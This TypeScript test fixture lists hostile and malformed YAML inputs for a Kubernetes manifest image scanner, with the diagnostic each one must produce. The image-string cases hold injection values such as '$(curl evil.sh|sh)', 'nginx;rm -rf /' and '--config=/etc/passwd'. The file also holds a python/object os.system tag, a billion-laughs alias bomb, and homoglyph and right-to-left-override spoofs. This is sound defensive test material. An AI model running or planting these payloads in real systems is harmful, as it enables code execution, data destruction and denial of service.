import type { TreeEntry } from '../support/temp-repo.js';
import { deploymentWithImage } from '../support/temp-repo.js';

/** What a hostile case must produce besides "no crash, no hang, the good image still found". */
export interface ExpectedDiagnostic {
  /** The file the diagnostic names, relative to the repository root. */
  readonly file: string;
  /** Its code, or one of several acceptable codes. */
  readonly code: string | readonly string[];
  /** The line it must name, when the problem has a position. */
  readonly line?: number;
}

/** One hostile or broken input, placed in `apps/` beside a good manifest. */
export interface HostileCase {
  readonly id: string;
  readonly category: string;
  /** The input, in words (for docs/reliability.md). */
  readonly input: string;
  /** Files written below the repository root (paths include `apps/`). */
  readonly files?: Readonly<Record<string, TreeEntry>>;
  /** Extra set-up: big files, FIFOs. */
  readonly setup?: (root: string) => Promise<void>;
  /** The diagnostic it must produce, or `none` when the input is valid and must simply be read. */
  readonly diagnostic: ExpectedDiagnostic | 'none';
  /** Images (normalized) that must be found besides the good one. */
  readonly images?: readonly string[];
  /** Images (normalized) that must not be found. */
  readonly absentImages?: readonly string[];
  /** What the Flux path (loadFluxRepository) must report instead, when it differs. */
  readonly flux?: ExpectedDiagnostic | 'none';
  /** A known bug of the Flux path: the test shows it and is marked `it.fails` until fixed. */
  readonly fluxBug?: string;
  /** Run the Flux path in a child process that is killed after a while (synchronous blow-ups). */
  readonly isolate?: boolean;
  /** A known bug of the plain-manifest path (marked `it.fails` until fixed). */
  readonly manifestsBug?: string;
  /** Kubernetes objects the manifests path must read (good one included). */
  readonly documents?: number;
}

const K = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n';
const yamlCase = (
  id: string,
  input: string,
  text: string | Uint8Array,
  diagnostic: HostileCase['diagnostic'],
  extra: Partial<HostileCase> = {},
): HostileCase => ({
  id,
  category: 'invalid YAML',
  input,
  files: { 'apps/bad.yaml': text },
  diagnostic,
  ...extra,
});
const syntax = (line?: number): ExpectedDiagnostic => ({
  file: 'apps/bad.yaml',
  code: 'yaml-syntax',
  ...(line === undefined ? {} : { line }),
});
const badImage = (
  id: string,
  input: string,
  image: string,
  code: string | readonly string[] = 'invalid-image-reference',
): HostileCase => ({
  id,
  category: 'odd image strings',
  input,
  files: { 'apps/bad.yaml': deploymentWithImage(image) },
  diagnostic: { file: 'apps/bad.yaml', code, line: 10 },
});

/** The YAML-level and image-string cases: pure text, no file-system tricks. */
export const TEXT_CASES: readonly HostileCase[] = [
  yamlCase('unclosed-flow-mapping', 'a flow mapping that never closes', `${K}data: {a: 1\n`, syntax()),
  yamlCase('unclosed-quote', 'a double-quoted scalar that never closes', `${K}data:\n  a: "open\n`, syntax()),
  yamlCase('bad-indentation', 'a mapping value where none is allowed', `${K}data:\n  a: b: c\n`, syntax(6)),
  yamlCase('tab-indentation', 'tabs used for indentation', `${K}data:\n\ta: 1\n`, syntax(6)),
  yamlCase(
    'undefined-alias',
    'an alias to an anchor that does not exist',
    `${K}data:\n  a: *nope\n`,
    syntax(6),
  ),
  yamlCase(
    'invalid-escape',
    'an unknown escape in a double-quoted scalar',
    `${K}data:\n  a: "\\q"\n`,
    syntax(6),
  ),
  yamlCase('yaml-2-directive', 'a %YAML 2.0 directive', `%YAML 2.0\n---\n${K}`, syntax()),
  yamlCase(
    'python-tag',
    'a !!python/object tag (code execution in unsafe loaders)',
    `${K}data: !!python/object:os.system [id]\n`,
    syntax(5),
  ),
  yamlCase(
    'js-function-tag',
    'a !!js/function tag',
    `${K}data: !!js/function 'function () { return 1 }'\n`,
    syntax(5),
  ),
  yamlCase('duplicate-keys', 'the same key twice in one mapping', `${K}data:\n  a: 1\n  a: 2\n`, syntax(7)),
  yamlCase(
    'duplicate-image-key',
    'a container with two image keys (which one would Kubernetes run?)',
    `${deploymentWithImage('docker.io/library/alpine:3.9')}          image: docker.io/library/evil:1\n`,
    syntax(11),
    { absentImages: ['docker.io/library/evil:1'] },
  ),
  yamlCase(
    'broken-middle-document',
    'three documents, the middle one broken: the other two are still read',
    `${deploymentWithImage('docker.io/library/first:1', 'first')}---\n${K}data: {\n---\n${deploymentWithImage('docker.io/library/third:1', 'third')}`,
    syntax(),
    { images: ['docker.io/library/first:1', 'docker.io/library/third:1'] },
  ),
  yamlCase(
    'alias-bomb',
    'a billion-laughs alias bomb (9 levels of 9 aliases) in a Deployment',
    [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata: {name: bomb}',
      'spec:',
      '  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      ...'bcdefghi'.split('').map((name, index) => {
        const previous = 'abcdefghi'[index]!;
        return `  ${name}: &${name} [*${previous},*${previous},*${previous},*${previous},*${previous},*${previous},*${previous},*${previous},*${previous}]`;
      }),
      '  template: {spec: {containers: [{name: x, image: "docker.io/library/bomb:1"}]}}',
      '',
    ].join('\n'),
    'none',
    {
      category: 'alias bombs',
      isolate: true,
      images: ['docker.io/library/bomb:1'],
    },
  ),
  yamlCase(
    'merge-key-image',
    'a container built with a YAML merge key (<<: *base) that carries the image',
    [
      'apiVersion: apps/v1',
      'kind: Deployment',
      'metadata: {name: merged}',
      'x-base: &base {image: "docker.io/library/merged:1"}',
      'spec:',
      '  template:',
      '    spec:',
      '      containers:',
      '        - <<: *base',
      '          name: app',
      '',
    ].join('\n'),
    'none',
    { category: 'valid but unusual YAML', images: ['docker.io/library/merged:1'] },
  ),
  yamlCase(
    'deep-flow-nesting',
    '10,000 levels of nested flow sequences',
    `${K}data: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`,
    { file: 'apps/bad.yaml', code: ['yaml-syntax', 'yaml-too-deep', 'walk-limit'] },
    { category: 'deep nesting' },
  ),
  yamlCase(
    'deep-block-nesting',
    '1,000 levels of nested block mappings inside a Deployment (10,000 would need 50 MB of indentation)',
    `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: deep}\nspec:\n${Array.from({ length: 1_000 }, (_, index) => `${' '.repeat(index + 1)}k:`).join('\n')} 1\n`,
    { file: 'apps/bad.yaml', code: ['yaml-syntax', 'yaml-too-deep', 'walk-limit'] },
    { category: 'deep nesting' },
  ),
  yamlCase(
    'deep-podspec-search',
    'a custom resource nesting a PodSpec 80 levels deep (past the PodSpec search depth of 64)',
    `apiVersion: example.com/v1\nkind: Deep\nmetadata: {name: deep}\nspec: ${'{a: '.repeat(80)}{containers: [{name: x, image: "docker.io/library/deep:1"}]}${'}'.repeat(80)}\n`,
    { file: 'apps/bad.yaml', code: 'walk-limit', line: 1 },
    { category: 'deep nesting' },
  ),
  yamlCase('empty-file', 'an empty file', '', 'none', { category: 'empty documents' }),
  yamlCase('only-separators', 'a file of bare `---` separators', '---\n---\n---\n', 'none', {
    category: 'empty documents',
  }),
  yamlCase('only-comments', 'a file of comments only', '# nothing\n---\n# still nothing\n', 'none', {
    category: 'empty documents',
  }),
  yamlCase(
    'document-end-markers',
    'documents closed with `...`',
    `${deploymentWithImage('docker.io/library/ended:1')}...\n---\n...\n`,
    'none',
    {
      category: 'empty documents',
      images: ['docker.io/library/ended:1'],
    },
  ),
  yamlCase(
    'scalar-document',
    'documents that are a scalar and a list, not objects',
    'just a string\n---\n- a\n- b\n',
    { file: 'apps/bad.yaml', code: 'not-kubernetes', line: 1 },
    { category: 'not Kubernetes', flux: { file: 'apps/bad.yaml', code: 'not-a-kubernetes-object', line: 1 } },
  ),
  yamlCase(
    'non-string-kind',
    'apiVersion is a number and kind a list',
    'apiVersion: 1\nkind: [Deployment]\nmetadata: {name: x}\n',
    { file: 'apps/bad.yaml', code: 'not-kubernetes', line: 1 },
    { category: 'not Kubernetes', flux: { file: 'apps/bad.yaml', code: 'not-a-kubernetes-object', line: 1 } },
  ),
  yamlCase(
    'helm-template',
    'a Helm chart template ({{ .Values.image }})',
    `${K}---\napiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - image: {{ .Values.image }}\n`,
    { file: 'apps/bad.yaml', code: 'helm-template', line: 12 },
    {
      category: 'Helm templates',
      flux: { file: 'apps/bad.yaml', code: ['helm-template', 'invalid-image-reference'], line: 12 },
    },
  ),
  yamlCase(
    'helm-control-flow',
    'a template whose first line is {{- if … }}',
    `{{- if .Values.enabled }}\n${K}{{- end }}\n`,
    { file: 'apps/bad.yaml', code: 'helm-template', line: 1 },
    {
      category: 'Helm templates',
      flux: { file: 'apps/bad.yaml', code: ['helm-template', 'yaml-syntax'], line: 1 },
    },
  ),
  yamlCase(
    'json-manifest',
    'a Deployment written as JSON in a .yaml file',
    JSON.stringify(
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'json' },
        spec: { template: { spec: { containers: [{ name: 'x', image: 'docker.io/library/json:1' }] } } },
      },
      null,
      2,
    ),
    'none',
    { category: 'JSON manifests', images: ['docker.io/library/json:1'] },
  ),
  yamlCase(
    'json-one-line',
    'a one-line JSON List of two Deployments',
    JSON.stringify({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'a' },
      spec: { template: { spec: { containers: [{ name: 'x', image: 'docker.io/library/oneline:1' }] } } },
    }),
    'none',
    { category: 'JSON manifests', images: ['docker.io/library/oneline:1'] },
  ),
  yamlCase(
    'crlf',
    'Windows line endings',
    deploymentWithImage('docker.io/library/crlf:1').replaceAll('\n', '\r\n'),
    'none',
    { category: 'encodings', images: ['docker.io/library/crlf:1'] },
  ),
  yamlCase(
    'utf8-bom',
    'a UTF-8 byte order mark',
    `\ufeff${deploymentWithImage('docker.io/library/bom:1')}`,
    'none',
    { category: 'encodings', images: ['docker.io/library/bom:1'] },
  ),
  yamlCase(
    'utf16',
    'a UTF-16LE file with BOM',
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(deploymentWithImage('docker.io/library/utf16:1'), 'utf16le'),
    ]),
    { file: 'apps/bad.yaml', code: 'invalid-encoding' },
    { category: 'encodings', flux: { file: 'apps/bad.yaml', code: ['invalid-encoding', 'yaml-syntax'] } },
  ),
  yamlCase(
    'latin1',
    'Latin-1 bytes (invalid UTF-8)',
    Buffer.from(`${K}data:\n  name: caf\xe9\n`, 'latin1'),
    { file: 'apps/bad.yaml', code: 'invalid-encoding' },
    {
      category: 'encodings',
    },
  ),
  yamlCase(
    'binary',
    'random binary with NUL bytes',
    Uint8Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256),
    { file: 'apps/bad.yaml', code: 'binary-file' },
    { category: 'binary files', flux: { file: 'apps/bad.yaml', code: ['binary-file', 'yaml-syntax'] } },
  ),
  yamlCase(
    'late-nul',
    'valid YAML with a NUL byte after the first 8,000 bytes',
    `${K}data:\n  pad: "${'x'.repeat(9000)}"\n  nul: "a\u0000b"\n`,
    { file: 'apps/bad.yaml', code: ['yaml-syntax', 'binary-file'] },
    { category: 'binary files' },
  ),
  yamlCase(
    'control-characters',
    'a raw BEL control character in a plain scalar',
    `${K}data:\n  a: x\u0007y\n`,
    { file: 'apps/bad.yaml', code: 'yaml-syntax', line: 6 },
    { category: 'binary files' },
  ),
  yamlCase('long-line', 'a single 2 MB line', `${K}data:\n  a: ${'y'.repeat(2_000_000)}\n`, 'none', {
    category: 'large input',
  }),
  badImage('image-leading-dash', 'image: "-rf"', '-rf'),
  badImage('image-flag', 'image: "--config=/etc/passwd"', '--config=/etc/passwd'),
  badImage('image-command-substitution', 'image: "$(curl evil.sh|sh)"', '$(curl evil.sh|sh)', [
    'invalid-image-reference',
    'unresolved-variable',
  ]),
  badImage('image-backticks', 'image: "`id`"', '`id`'),
  badImage('image-newline', 'image: "nginx\\n--help"', 'nginx\n--help'),
  badImage('image-semicolon', 'image: "nginx;rm -rf /"', 'nginx;rm -rf /'),
  badImage('image-pipe-ampersand', 'image: "nginx|cat&"', 'nginx|cat&'),
  badImage('image-cyrillic', 'image: "ngіnx" with a Cyrillic і', 'ng\u0456nx:1.0'),
  badImage('image-zero-width', 'image with a zero-width space', 'nginx\u200b:1.0'),
  badImage('image-fullwidth-colon', 'image with a full-width colon', 'nginx\uff1a1.0'),
  badImage('image-rtl-override', 'image with a right-to-left override', 'nginx:1.0\u202egpj'),
  badImage('image-uppercase', 'image: "Nginx:1"', 'Nginx:1'),
  badImage('image-too-long', 'a 5,000-character image name', `a/${'b'.repeat(5000)}:1`),
  badImage('image-short-digest', 'image with a truncated sha256 digest', 'nginx@sha256:abc'),
  badImage('image-variable', 'image: "${TAG}" left unresolved', 'nginx:${TAG}', [
    'unresolved-variable',
    'invalid-image-reference',
  ]),
  {
    ...badImage('image-empty', 'image: ""', ''),
  },
  badImage('image-space', 'image: "nginx latest"', 'nginx latest'),
  badImage('image-nul', 'image with an escaped NUL', 'nginx\u0000:1'),
  {
    id: 'image-not-string',
    category: 'odd image strings',
    input: 'image is a mapping',
    files: {
      'apps/bad.yaml':
        'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: x\n      image: {repository: nginx}\n',
    },
    diagnostic: { file: 'apps/bad.yaml', code: 'invalid-image-reference', line: 7 },
  },
];
